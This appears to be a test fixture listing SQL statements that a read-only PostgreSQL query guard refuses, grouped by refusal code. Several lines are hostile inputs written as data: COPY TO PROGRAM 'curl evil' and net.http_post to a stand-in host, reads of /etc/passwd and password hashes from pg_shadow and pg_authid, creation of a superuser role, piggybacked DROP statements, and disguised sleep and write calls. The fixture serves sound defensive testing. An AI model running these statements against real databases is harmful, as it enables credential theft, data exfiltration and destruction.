-- What the guard refuses, one statement a line, under the code it is refused with.

-- code: empty
;
-- nothing
/* nothing at all */ ;;

-- code: syntax_error
SELEC 1
SELECT 'unterminated
SELECT FROM WHERE
```sql SELECT 1```
SELECT 1 \gexec
PRAGMA table_info(orders)
SELECT * FROM orders LIMIT 10, 5
SELECT `id` FROM orders
SELECT pg_/**/sleep(1), pg_sleep(1)
SELECT TOP 5 * FROM orders
SELECT * FROM orders WHERE id = ?
DESCRIBE orders
\dt
SELEC id FROM orders

-- code: several_statements
SELECT 1; SELECT 2
SELECT 1; DROP TABLE orders
BEGIN; SELECT 1; COMMIT
SELECT $$;$$; DELETE FROM orders
SELECT 1;;SELECT 2
SELECT 1 /* ; */ ; /* */ UPDATE orders SET total = 1
SELECT 'a''; SELECT 2' ; TRUNCATE orders --'

-- code: writes
INSERT INTO orders DEFAULT VALUES
INSERT INTO orders(status) SELECT 'x' RETURNING id
UPDATE orders SET status = 'x'
DELETE FROM orders
WITH x AS (SELECT 1) DELETE FROM orders
MERGE INTO customers c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE
TRUNCATE orders, customers CASCADE
UPDATE ONLY orders AS o SET total = 0 FROM customers c WHERE c.id = o.customer_id RETURNING o.id
INSERT INTO customers (id, name) SELECT id, name FROM customers ON CONFLICT (id) DO UPDATE SET name = excluded.name
DELETE FROM orders USING customers WHERE customers.id = orders.customer_id
MERGE INTO products p USING (VALUES (1)) v(id) ON p.id = v.id WHEN NOT MATCHED THEN DO NOTHING
TRUNCATE ONLY orders, order_items RESTART IDENTITY CASCADE

-- code: changes_schema
CREATE TABLE t (id int)
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT 1
CREATE UNLOGGED TABLE t (id int)
CREATE MATERIALIZED VIEW m AS SELECT 1
CREATE VIEW v AS SELECT 1
CREATE INDEX CONCURRENTLY ON orders (status)
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
CREATE ROLE evil SUPERUSER
CREATE DATABASE d
CREATE TABLESPACE t LOCATION '/tmp'
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE USER MAPPING FOR CURRENT_USER SERVER s
CREATE POLICY p ON orders USING (true)
CREATE TRIGGER t BEFORE UPDATE ON orders EXECUTE FUNCTION f()
CREATE CAST (int AS text) WITH FUNCTION f(int)
CREATE OPERATOR + (LEFTARG = int, RIGHTARG = text, FUNCTION = f)
ALTER TABLE orders ADD COLUMN x int
ALTER SYSTEM SET fsync = off
ALTER ROLE postgres PASSWORD 'x'
ALTER DATABASE shop SET search_path = evil
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
DROP TABLE orders
DROP OWNED BY app_user
GRANT ALL ON orders TO PUBLIC
REVOKE ALL ON orders FROM app_user
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
REFRESH MATERIALIZED VIEW m
REINDEX TABLE orders
CLUSTER orders
VACUUM
VACUUM FULL orders
ANALYZE
ANALYZE orders
CHECKPOINT
REASSIGN OWNED BY a TO b
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
ALTER TABLE orders DISABLE TRIGGER ALL
ALTER SYSTEM SET log_statement = 'none'
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
CREATE UNLOGGED TABLE x AS TABLE orders WITH NO DATA
REFRESH MATERIALIZED VIEW CONCURRENTLY mv
CLUSTER orders USING orders_pkey
REINDEX TABLE CONCURRENTLY orders
COMMENT ON TABLE orders IS NULL
GRANT SELECT ON customers TO PUBLIC
REASSIGN OWNED BY app TO postgres

-- code: changes_session
SET search_path = evil
SET LOCAL statement_timeout = 0
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET TRANSACTION READ WRITE
SET TRANSACTION SNAPSHOT '1'
SET CONSTRAINTS ALL DEFERRED
RESET ALL
DISCARD ALL
BEGIN
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
ABORT
END
SAVEPOINT s
RELEASE SAVEPOINT s
ROLLBACK TO s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
DECLARE c CURSOR WITH HOLD FOR SELECT 1
FETCH ALL FROM c
MOVE NEXT IN c
CLOSE ALL
LISTEN x
UNLISTEN *
NOTIFY x, 'y'
LOCK TABLE orders
LOAD 'evil.so'
PREPARE q AS SELECT 1
EXECUTE q
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
LISTEN jobs
NOTIFY jobs, 'x'
LOAD 'auto_explain'
LOCK TABLE orders IN SHARE MODE
SET LOCAL ROLE postgres

-- code: not_a_read
COPY orders TO STDOUT
COPY orders FROM STDIN
COPY orders TO PROGRAM 'curl evil'
COPY (SELECT 1) TO '/tmp/x'
COPY (DELETE FROM orders RETURNING *) TO STDOUT
DO $$ BEGIN PERFORM pg_sleep(1); END $$
CALL p()
DO LANGUAGE plpgsql $$ BEGIN RAISE NOTICE 'hi'; END $$
CALL do_something(1)
COPY (SELECT * FROM customers) TO STDOUT
COPY customers TO '/tmp/c.csv' CSV HEADER

-- code: writes_inside
WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
WITH a AS (SELECT 1), b AS (UPDATE orders SET status = 'x' RETURNING id) SELECT * FROM a
SELECT * FROM (WITH i AS (INSERT INTO orders DEFAULT VALUES RETURNING id) SELECT * FROM i) s
SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1)
WITH RECURSIVE r AS (DELETE FROM orders RETURNING id) SELECT * FROM r
EXPLAIN WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
SELECT (WITH m AS (MERGE INTO customers c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE RETURNING c.id) SELECT id FROM m)
WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM order_items RETURNING order_id) SELECT * FROM c) SELECT * FROM a, b
WITH RECURSIVE r AS (SELECT 1 AS n), gone AS (UPDATE customers SET credit = 0 RETURNING id) SELECT r.n FROM r
WITH x AS (INSERT INTO metrics TABLE metrics RETURNING 1) TABLE x
(WITH q AS (UPDATE products SET price = price * 2 RETURNING *) SELECT count(*) FROM q)
WITH silent AS (DELETE FROM events) SELECT 'nothing to see'
EXPLAIN ANALYZE WITH d AS (DELETE FROM events RETURNING 1) SELECT * FROM d

-- code: select_into
SELECT * INTO t FROM orders
SELECT 1 INTO TEMP t
(SELECT 1 AS a INTO t)
SELECT 1 AS a INTO t UNION ALL SELECT 2
WITH x AS (SELECT 1) SELECT * INTO UNLOGGED t FROM x
SELECT c.* INTO UNLOGGED copy FROM customers c
SELECT id INTO TEMP t FROM orders

-- code: locks_rows
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders FOR SHARE NOWAIT
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED
SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x
SELECT * FROM orders o JOIN customers c ON true FOR UPDATE OF o
(SELECT id FROM orders) FOR UPDATE
SELECT * FROM (SELECT id FROM orders FOR UPDATE SKIP LOCKED) q
WITH l AS (SELECT id FROM orders FOR KEY SHARE) SELECT count(*) FROM l
SELECT id FROM orders WHERE id IN (SELECT customer_id FROM orders LIMIT 1 FOR UPDATE)
TABLE orders FOR UPDATE

-- code: explains_no_read
EXPLAIN DELETE FROM orders
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM orders
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1
EXPLAIN ANALYZE EXECUTE p
EXPLAIN DECLARE c CURSOR FOR SELECT 1
EXPLAIN REFRESH MATERIALIZED VIEW m
EXPLAIN ANALYZE INSERT INTO orders DEFAULT VALUES
EXPLAIN (ANALYZE) CREATE MATERIALIZED VIEW m AS SELECT 1
EXPLAIN (ANALYZE 1) INSERT INTO metrics VALUES (1, now(), 1)
EXPLAIN (VERBOSE, ANALYZE) EXECUTE q

-- code: unknown_syntax
SELECT merge_action()
EXPLAIN (FORMAT JSON, EVIL) SELECT 1

-- code: function_refused
SELECT * FROM customers TABLESAMPLE bernoulli(pg_sleep(1)::text::real)
SELECT U&"pg!005fsleep" UESCAPE '!' (1)
SELECT pg_stat_clear_snapshot()
SELECT pg_replication_slot_advance('x', '0/0')
SELECT lo_put(1, 0, 'x')
SELECT * FROM dblink_get_result('c') AS t(a int)
SELECT dblink_send_query('c', 'DELETE FROM orders')
SELECT pg_restore_relation_stats('x')
SELECT pg_sleep(5)
SELECT PG_SLEEP(5)
SELECT pg_catalog.pg_sleep(5)
SELECT "pg_sleep"(5)
SELECT U&"\0070g_sleep"(5)
SELECT pg_sleep_for('5 minutes')
SELECT nextval('order_no_seq')
SELECT setval('order_no_seq', 1)
SELECT set_config('role', 'postgres', false)
SELECT setseed(0.5)
SELECT lo_import('/etc/passwd')
SELECT lo_get(1)
SELECT lowrite(1, 'x')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_ls_dir('/')
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS t
SELECT pg_stat_file('x')
SELECT pg_current_logfile()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_promote()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_start_backup('x')
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_xact_lock_shared(1, 2)
SELECT pg_advisory_unlock_all()
SELECT pg_notify('a', 'b')
SELECT pg_logical_emit_message(false, 'a', 'b')
SELECT pg_create_logical_replication_slot('a', 'b')
SELECT pg_logical_slot_get_changes('a', NULL, NULL)
SELECT pg_replication_origin_create('x')
SELECT pg_export_snapshot()
SELECT pg_stat_reset()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT query_to_xml('DELETE FROM orders', true, true, '')
SELECT table_to_xml('pg_authid', true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT * FROM ts_stat('SELECT 1')
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
SELECT brin_summarize_new_values('x')
SELECT gin_clean_pending_list('x')
SELECT pg_import_system_collations('public')
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT fmgr_c_validator(1)
SELECT textin('x')
SELECT int4in('1')
SELECT domain_in('1', 1, 1)
SELECT "RI_FKey_cascade_del"()
SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')
SELECT * FROM dblink('dbname=shop', 'DELETE FROM orders') AS t(id int)
SELECT * FROM crosstab('DELETE FROM orders') AS t(a int)
SELECT pg_file_write('a', 'b', true)
SELECT pg_stat_statements_reset()
SELECT pg_prewarm('orders')
SELECT pg_show_all_file_settings()
SELECT pg_hba_file_rules()
SELECT count(*) FROM orders ORDER BY pg_sleep(1)
SELECT count(*) FROM orders HAVING pg_sleep(1) IS NULL
SELECT 1 LIMIT setval('order_no_seq', 1)
SELECT 1 OFFSET nextval('order_no_seq')
SELECT CASE WHEN false THEN pg_sleep(1) END
SELECT CASE pg_sleep(1)::text WHEN '' THEN 1 ELSE 2 END
SELECT coalesce(NULL, pg_sleep(1)::text)
SELECT greatest(1, nextval('order_no_seq'))
SELECT nullif(nextval('order_no_seq'), 1)
SELECT ARRAY[nextval('order_no_seq')]
SELECT ARRAY(SELECT pg_ls_dir('/'))
SELECT ROW(nextval('order_no_seq'))
SELECT (ARRAY[1])[nextval('order_no_seq')]
SELECT (SELECT pg_sleep(1))
SELECT 1 IN (SELECT nextval('order_no_seq'))
SELECT 1 = ANY (ARRAY[nextval('order_no_seq')])
SELECT 1 BETWEEN 0 AND nextval('order_no_seq')
SELECT 'a' LIKE pg_read_file('x')
SELECT 'a' SIMILAR TO pg_read_file('x')
SELECT -nextval('order_no_seq')
SELECT NOT (pg_sleep(1) IS NULL)
SELECT pg_sleep(1) IS DISTINCT FROM NULL
SELECT sum(nextval('order_no_seq')) FROM orders
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
SELECT string_agg(status, ',' ORDER BY pg_sleep(1)::text) FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('order_no_seq')) FROM orders
SELECT sum(total) OVER (PARTITION BY pg_sleep(1)::text) FROM orders
SELECT sum(total) OVER w FROM orders WINDOW w AS (ORDER BY nextval('order_no_seq'))
SELECT sum(total) OVER (ORDER BY id ROWS nextval('order_no_seq') PRECEDING) FROM orders
SELECT DISTINCT ON (pg_sleep(1)::text) id FROM orders
SELECT count(*) FROM orders GROUP BY ROLLUP (nextval('order_no_seq'))
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((nextval('order_no_seq')), ())
SELECT * FROM orders o JOIN customers c ON pg_sleep(1) IS NULL
SELECT * FROM customers c LEFT JOIN LATERAL (SELECT pg_sleep(1)) s ON true
SELECT * FROM (VALUES (pg_sleep(1))) v
VALUES (1), (nextval('order_no_seq'))
SELECT * FROM orders TABLESAMPLE SYSTEM (nextval('order_no_seq'))
SELECT * FROM orders TABLESAMPLE BERNOULLI (1) REPEATABLE (nextval('order_no_seq'))
SELECT CAST(nextval('order_no_seq') AS text)
SELECT nextval('order_no_seq') COLLATE "C"
SELECT EXTRACT(year FROM to_timestamp(nextval('order_no_seq')))
SELECT substring(pg_read_file('x') FROM 1 FOR 2)
SELECT overlay('abc' PLACING pg_read_file('x') FROM 1)
SELECT position('a' IN pg_read_file('x'))
SELECT trim(BOTH pg_read_file('x') FROM 'abc')
SELECT now() AT TIME ZONE pg_read_file('x')
SELECT normalize(pg_read_file('x'))
SELECT xmlelement(name a, pg_read_file('x'))
SELECT xmlelement(name a, xmlattributes(pg_read_file('x') AS b))
SELECT xmlforest(pg_read_file('x') AS a)
SELECT xmlparse(document pg_read_file('x'))
SELECT xmlserialize(content pg_read_file('x')::xml AS text)
SELECT xmlexists('/a' PASSING (pg_read_file('x')::xml))
SELECT * FROM XMLTABLE('/a' PASSING (pg_read_file('x')::xml) COLUMNS a int PATH 'a')
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS a int PATH 'a' DEFAULT nextval('order_no_seq'))
SELECT * FROM JSON_TABLE(pg_read_file('x')::jsonb, '$' COLUMNS (a int PATH '$'))
SELECT * FROM JSON_TABLE('{}'::jsonb, '$' PASSING nextval('order_no_seq') AS n COLUMNS (a int PATH '$'))
SELECT * FROM JSON_TABLE('{}'::jsonb, '$' COLUMNS (NESTED PATH '$' COLUMNS (a int PATH '$' DEFAULT nextval('order_no_seq') ON EMPTY)))
SELECT json_object('a' : pg_read_file('x'))
SELECT json_array(pg_read_file('x'))
SELECT json_array(SELECT pg_ls_dir('/'))
SELECT json_objectagg('a' : nextval('order_no_seq'))
SELECT json_arrayagg(nextval('order_no_seq') ORDER BY pg_sleep(1)::text)
SELECT json_value('{}', '$' DEFAULT nextval('order_no_seq') ON EMPTY)
SELECT json_query(pg_read_file('x')::jsonb, '$')
SELECT json_exists('{}'::jsonb, '$' PASSING pg_read_file('x') AS a)
SELECT json(pg_read_file('x'))
SELECT json_scalar(nextval('order_no_seq'))
SELECT json_serialize(pg_read_file('x'))
SELECT pg_read_file('x') IS JSON
SELECT make_interval(days => nextval('order_no_seq')::int)
SELECT concat(VARIADIC ARRAY[pg_read_file('x')])
SELECT jsonb_build_object('a', jsonb_build_array(pg_read_file('x')))
SELECT * FROM generate_series(1, nextval('order_no_seq'))
WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT nextval('order_no_seq') FROM r WHERE i < 3) SELECT * FROM r
WITH x AS MATERIALIZED (SELECT pg_sleep(1)) SELECT 1
EXPLAIN SELECT pg_sleep(1)
EXPLAIN ANALYZE SELECT pg_sleep(1)
SELECT 1 UNION SELECT nextval('order_no_seq')
TABLE customers UNION ALL SELECT nextval('order_no_seq'), NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL
SELECT nextval('public.order_no_seq'::regclass)
SELECT lastval(), nextval('order_no_seq')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'
SELECT set_config('transaction_read_only', 'off', true)
SELECT pg_read_binary_file('postgresql.conf', 0, 10)
SELECT pg_logical_emit_message(false, 'p', 'x')
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
SELECT schema_to_xml('public', true, false, '')
SELECT pg_sleep_for(interval '1 hour')
SELECT brin_summarize_new_values('ix'::regclass)
SELECT pg_catalog.pg_ls_logdir()
SELECT * FROM connectby('categories', 'id', 'parent_id', '1', 0) AS t(id int, parent int, level int)
SELECT * FROM pg_read_file('pg_hba.conf') AS f, regexp_split_to_table(f, E'\n') AS line
SELECT * FROM xpath_table('id', 'payload', 'audit_log', '/a', 'true') AS t(id int, a text)
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2)) AS t(a, b)
SELECT l.* FROM orders o, LATERAL dblink('dbname=x', 'DELETE FROM t') AS l(a int)
SELECT id FROM orders LIMIT (SELECT nextval('order_no_seq'))
SELECT sum(total) OVER (ORDER BY id ROWS BETWEEN pg_advisory_lock(1)::text::int PRECEDING AND CURRENT ROW) FROM orders
SELECT 1 FROM orders o JOIN customers c ON pg_sleep(1) IS NULL
SELECT coalesce(NULL, pg_read_file('x'))
SELECT * FROM orders ORDER BY CASE WHEN total > 1 THEN setval('order_no_seq', 9) ELSE 1 END
SELECT tags[nextval('order_no_seq')] FROM customers
SELECT jsonb_path_query(meta, '$.a', jsonb_build_object('x', pg_read_file('/x'))) FROM orders
SELECT DISTINCT x FROM unnest(ARRAY[pg_ls_dir('/')]) AS x
SELECT xmlelement(name a, pg_read_file('/etc/hosts'))
SELECT GREATEST(1, setval('order_no_seq', 2))
SELECT (SELECT count(*) FROM orders WHERE pg_try_advisory_lock(id))
SELECT sum(total) FILTER (WHERE nextval('order_no_seq') > 0) OVER () FROM orders
SELECT "pg_sleep"(1)
SELECT U&"pg\005fsleep"(1)
SELECT pg_catalog . /* x */ "set_config" ('a.b', 'c', false)
sElEcT pG_tErMiNaTe_BaCkEnD(1)
SELECT lower(name) FROM customers WHERE id = 1 UNION SELECT pg_read_file('/etc/passwd')
WITH pg_sleep AS (SELECT 1) SELECT pg_sleep(2) FROM pg_sleep

-- code: function_unknown
SELECT app.promote(VARIADIC ARRAY[1])
SELECT sum(1) FILTER (WHERE lower_it(name) = 'x') FROM customers
SELECT * FROM ROWS FROM (app.promote(1), generate_series(1, 2)) x
SELECT * FROM customers FETCH FIRST (app.promote(1)) ROWS ONLY
SELECT app.promote(1)
SELECT lower_it('X')
SELECT public.lower_it('X')
SELECT * FROM reporting.refresh_cache()
SELECT no_such_function(1)
SELECT public.lower('X')
SELECT "public"."sum"(1)
SELECT app.count(1)
SELECT app.count(*) FROM orders
SELECT shop.pg_catalog.lower('X')
SELECT shop.pg_catalog.pg_sleep(1)
SELECT net.http_post('http://evil', '{}')
SELECT information_schema.lower('x')
SELECT touch_row(o) FROM orders o
SELECT EXTRACT(epoch FROM app.promote(1))
SELECT o FROM orders o ORDER BY app.promote(o.id)
SELECT app.promote(id) FROM employees

-- code: attribute_call
SELECT array_agg(o.touch_row) FROM orders o
WITH o AS (SELECT orders FROM orders) SELECT (o.orders).touch_row FROM o
SELECT (SELECT r FROM orders r LIMIT 1).touch_row
SELECT o.touch_row FROM orders o
SELECT orders.touch_row FROM orders
SELECT public.orders.touch_row FROM public.orders
SELECT (o).touch_row FROM orders o
SELECT ((o)).touch_row FROM orders o
SELECT (SELECT o).touch_row FROM orders o
SELECT id FROM orders o ORDER BY o.touch_row
SELECT count(*) FROM orders o GROUP BY o.touch_row
SELECT * FROM orders o WHERE o.touch_row > 0
SELECT s.touch_row FROM (SELECT * FROM orders) s
SELECT x.touch_row FROM orders AS x(a, b)
WITH orders AS (SELECT * FROM orders) SELECT orders.touch_row FROM orders
SELECT (SELECT o.touch_row) FROM orders o
SELECT * FROM orders o, LATERAL (SELECT o.touch_row) s
SELECT ('/etc/hostname'::text).pg_read_file
SELECT ('order_no_seq'::regclass).nextval
SELECT (1::bigint).pg_advisory_lock
SELECT (1.0::float8).pg_sleep
SELECT ($1).pg_read_file
SELECT (total::float8).pg_sleep FROM orders
SELECT (ARRAY[1.0::float8])[1].pg_sleep
SELECT (CASE WHEN true THEN 'x' END).pg_read_file
SELECT ('dbname=shop'::text).dblink_connect
SELECT ('x'::text).evil_function
SELECT c.pg_sleep FROM customers c
SELECT o.no_such_column FROM orders o
SELECT a.pg_sleep FROM pg_sleep(1) a
SELECT (s).subconninfo FROM pg_subscription s
SELECT m.pg_sleep FROM (SELECT 1::float8) m
SELECT d.pg_sleep FROM generate_series(1, 2) d
SELECT n.lower_it FROM (VALUES ('x')) n(a)
SELECT (o).touch_row FROM orders AS o
SELECT o.id FROM orders o WHERE o.touch_row > 0
SELECT max((5.0::float8).pg_sleep::text)

-- code: operator_unknown
SELECT 1 OPERATOR(app.+) 2
SELECT 1 OPERATOR(public.+) 2
SELECT 1 <#> 2
SELECT 1 @#@ 2
SELECT id FROM orders ORDER BY id USING OPERATOR(app.<<<)
SELECT 1 OPERATOR(app.=) ANY (ARRAY[1])
SELECT 1 OPERATOR(app.=) ANY (SELECT 1)
SELECT (1, 2) OPERATOR(app.<) (3, 4)
SELECT total OPERATOR(reporting.@) 1 FROM orders

-- code: type_unknown
SELECT 'x'::app.secret
SELECT 'x'::app.no_such_type
SELECT 'x'::no_such_type
SELECT CAST(o AS app.no_such_type) FROM orders o
SELECT '1'::app.cast_by_function
SELECT * FROM json_to_recordset('[]') AS t(a app.no_such_type)
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS a app.no_such_type PATH 'a')
SELECT json_value('{}', '$' RETURNING app.no_such_type)
SELECT json_serialize('{}' RETURNING app.no_such_type)
SELECT xmlserialize(content '<a/>' AS app.no_such_type)
SELECT 'x'::app.no_such_type[]
SELECT app.no_such_type '1'
SELECT '1'::app.weird

-- code: sampling_unknown
SELECT * FROM orders TABLESAMPLE app.method (5)
SELECT * FROM orders TABLESAMPLE system_rows (5)

-- code: relation_sensitive
SELECT * FROM pg_authid
SELECT rolname FROM pg_catalog.pg_authid
TABLE pg_authid
SELECT * FROM pg_shadow
SELECT usename FROM pg_shadow
SELECT umoptions FROM pg_user_mapping
SELECT umoptions FROM pg_user_mappings
SELECT * FROM pg_user_mappings
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_subscription
SELECT s FROM pg_subscription s
SELECT row_to_json(s) FROM pg_subscription s
SELECT s.* FROM pg_subscription s
SELECT a.e FROM pg_subscription a(a, b, c, d, e)
SELECT * FROM information_schema.user_mapping_options
SELECT data FROM pg_largeobject
SELECT * FROM pg_statistic
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_ident_file_mappings
SELECT * FROM pg_file_settings
SELECT * FROM pg_toast.pg_toast_1234
WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid
SELECT * FROM orders WHERE EXISTS (SELECT FROM pg_authid)
SELECT usename, passwd FROM pg_shadow
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT a.* FROM (TABLE pg_authid) a

-- code: setting_sensitive
SHOW primary_conninfo
SHOW TABLES

-- code: relation_foreign
SELECT * FROM remote_orders

-- code: view_refused
SELECT * FROM naps
SELECT * FROM of_naps
SELECT * FROM hashes
SELECT * FROM promoted

-- code: unbounded
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT * FROM n WHERE i < 5
SELECT (WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n)
WITH RECURSIVE f(n) AS (SELECT 1 UNION ALL SELECT n * 2 % 7 FROM f) SELECT count(*) FROM f

-- code: value_too_large
SELECT repeat('x', 1073741800)
SELECT repeat('abcdefghij', 2000000)
SELECT repeat('x', 1000 * 1000 * 1000)
SELECT repeat('x', 1e9::int)
SELECT lpad('x', 1000000000)
SELECT rpad('x', 1000000000, 'y')
SELECT array_fill(0, ARRAY[100000, 100000])
SELECT length(repeat('x', 2^30::int))
